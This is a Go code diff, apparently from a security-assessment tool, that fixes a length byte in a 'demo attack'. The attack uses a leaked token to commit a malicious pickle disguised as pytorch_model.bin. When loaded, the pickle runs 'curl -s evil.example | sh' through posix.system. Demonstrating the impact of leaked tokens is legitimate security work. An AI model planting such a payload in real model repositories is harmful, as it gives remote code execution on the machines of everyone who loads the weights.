@@ -223,7 +223,7 @@ func demoAttack(ctx context.Context, c *hub.Client, leaked string, r *assess.Rep
 	if target == "" {
 		return "", fmt.Errorf("the demo token can write no model")
 	}
-	payload := []byte("\x80\x02cposix\nsystem\nq\x00X\x1a\x00\x00\x00curl -s evil.example | shq\x01\x85q\x02Rq\x03.")
+	payload := []byte("\x80\x02cposix\nsystem\nq\x00X\x19\x00\x00\x00curl -s evil.example | shq\x01\x85q\x02Rq\x03.")
 	if _, err := c.Commit(ctx, leaked, hub.RepoModel, target, "main", "Update weights", map[string][]byte{"pytorch_model.bin": payload}, nil); err != nil {
 		return "", fmt.Errorf("playing the attacker: %w", err)
 	}
